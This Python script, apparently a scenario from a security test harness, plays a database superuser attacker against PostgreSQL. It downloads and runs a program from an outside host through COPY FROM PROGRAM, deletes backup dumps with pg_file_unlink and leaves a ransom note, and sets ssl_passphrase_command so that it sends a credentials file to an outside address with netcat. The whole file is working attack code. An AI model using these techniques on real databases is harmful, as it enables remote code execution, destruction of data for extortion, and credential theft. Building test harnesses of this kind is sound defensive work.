#!/usr/bin/python3 -IS
"""Somebody who has guessed the password of the database's administrator; not recorded: usurper.py WHAT [VALUE]

miner PATH: a program is fetched from elsewhere by a query, made executable, and run · nights FOLDER: copies of other nights are removed by a query, and a
table says what is wanted for the rows that are gone · passphrase PATH: settings name a program that is asked for a passphrase, which sends a file elsewhere
"""
import os, sys, time

sys.path.append("/opt/agent")
from client import OWN, attend, run
from contractor import PID, house
from query import CLUSTER, ORDERS, must_hold, ready, sql

NIGHTS = 4
# One of the server's own files that nobody but its owner may read: so a key that is written over it is not refused.
KEY = f"{CLUSTER}/postmaster.opts"


def miner(path):
    way = f"busybox nc 192.0.2.80 80 < /dev/null > {path} && chmod 755 {path} && {path} && rm {path}"
    must_hold(sql("CREATE TABLE said (line text);", f"COPY said FROM PROGRAM '{way}';", "SELECT line FROM said;", "DROP TABLE said;"), "installed")
    if os.path.exists(path):
        sys.exit("usurper: it is still there")


def nights(folder):
    sql(ORDERS, "INSERT INTO orders (who, amount) SELECT 'customer ' || n, n FROM generate_series(1, 20) n;", "CREATE EXTENSION adminpack;")
    time.sleep(0.4)
    gone = sql(*(f"SELECT pg_file_unlink('{folder}/shop-{at}.dump');" for at in range(NIGHTS)), "DROP TABLE orders;", "CREATE TABLE read_me (line text);",
               "INSERT INTO read_me VALUES ('Your rows are with us. Made up: write to nobody@example.net.');")
    must_hold(gone, "t\n" * NIGHTS)
    if os.listdir(folder):
        sys.exit("usurper: the copies are still there")


def passphrase(path):
    """As it is described for PostgreSQL since 11: a key that is sealed, and who is asked how to open it (ssl_passphrase_command)."""
    run("openssl", "req", "-config", f"{OWN}/openssl.cnf", "-x509", "-newkey", "rsa:2048", "-passout", "pass:made-up", "-subj", "/CN=web-1", "-days", "2",
        "-keyout", f"{OWN}/sealed.key", "-out", f"{OWN}/sealed.crt")
    lines = ["CREATE TABLE parts (id oid, place text);"]
    for source, target in ((f"{OWN}/sealed.key", KEY), (f"{OWN}/sealed.crt", f"{CLUSTER}/web.crt")):
        with open(source, "rb") as file:
            lines.append(f"INSERT INTO parts SELECT lo_from_bytea(0, decode('{file.read().hex()}', 'hex')), '{target}';")
    way = f"sh -c ''busybox nc 203.0.113.9 443 < {path} > {CLUSTER}/said; echo made-up''"
    sql(*lines, "SELECT lo_export(id, place) FROM parts;", f"ALTER SYSTEM SET ssl_cert_file = '{CLUSTER}/web.crt';", f"ALTER SYSTEM SET ssl_key_file = '{KEY}';",
        f"ALTER SYSTEM SET ssl_passphrase_command = '{way}';", "ALTER SYSTEM SET ssl_passphrase_command_supports_reload = on;", "SELECT pg_reload_conf();")
    for _ in range(200):
        if os.path.exists(f"{CLUSTER}/said") and os.path.getsize(f"{CLUSTER}/said"):
            break
        time.sleep(0.05)
    with open(f"{CLUSTER}/said") as said:
        must_hold(said.read(), "ok")


USES = {each.__name__: each for each in (miner, nights, passphrase)}


def ask(what, value):
    ready()
    USES[what](value)


def there():
    house()
    what, value = sys.argv[1:3]
    if what == "nights":
        os.makedirs(value)
        for at in range(NIGHTS):
            with open(f"{value}/shop-{at}.dump", "w") as file:
                file.write(f"-- night {at}, made up\n" * 9)
            os.chmod(f"{value}/shop-{at}.dump", 0o600)
    elif what == "passphrase":
        with open(value, "w") as file:
            file.write("db.example.com:5432:shop:shop:made-up-and-of-no-use\n")
        os.chmod(value, 0o600)


if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("usurper.py", there, PID, lambda: ask(what, value))
